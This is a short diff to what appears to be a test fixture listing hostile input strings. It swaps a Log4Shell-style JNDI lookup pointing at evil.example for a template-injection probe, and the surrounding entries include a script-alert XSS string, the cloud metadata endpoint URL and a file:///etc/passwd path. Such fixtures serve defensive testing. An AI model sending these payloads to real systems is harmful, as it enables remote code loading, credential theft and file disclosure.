@@ -34,7 +34,7 @@ const hostileTexts = [
   "x".repeat(5000),
   "👩‍👩‍👧‍👦".repeat(50),
   "<script>alert(1)</script>",
-  "${jndi:ldap://evil.example/a}",
+  "{{constructor.constructor(1)}}",
   "http://169.254.169.254/latest/meta-data",
   "data:image/png;base64,AAAA",
   "file:///etc/passwd",
